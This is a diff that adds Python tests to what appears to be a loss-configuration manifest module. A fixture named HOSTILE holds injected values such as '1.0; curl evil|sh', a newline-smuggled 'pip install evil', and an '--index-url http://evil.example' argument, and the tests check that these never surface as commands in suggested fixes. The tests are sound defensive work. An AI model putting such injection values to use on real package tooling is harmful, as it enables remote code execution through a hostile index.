@@ -213,3 +213,24 @@ def plain(value):
     if isinstance(value, list):
         return [plain(item) for item in value]
     return str(value) if isinstance(value, bool) else value
+
+
+HOSTILE = {
+    "losses": {"A\n  loss C": {"function": "a:b", "provider": "--index-url http://evil.example x"}},
+    "providers": {"--index-url http://evil.example x": "1.0; curl evil|sh", "nectargan-sobel": "9.9 --pre"},
+    "versions": {"torch": "2.0\n  pip install evil"},
+    "fingerprint": "0",
+}
+
+
+def test_what_a_record_says_is_no_command_and_no_line_of_ours():
+    found = Objective.from_dict(HOSTILE).differences(Objective(fingerprint="1"))
+    assert not any("pip install" in difference.fix for difference in found)
+    for difference in found:
+        assert len(str(difference).splitlines()) == len(difference.told().splitlines()) == 1
+
+
+def test_a_release_that_is_installed_is_not_to_be_installed():
+    before, after = (LossManager.from_spec(formula).manifest() for formula in ("l1 + sobel", "l1"))
+    (lost,) = [each for each in before.differences(after) if each.kind == "loss"]
+    assert (lost.name, lost.fix) == ("G_SOBEL", "add its term")
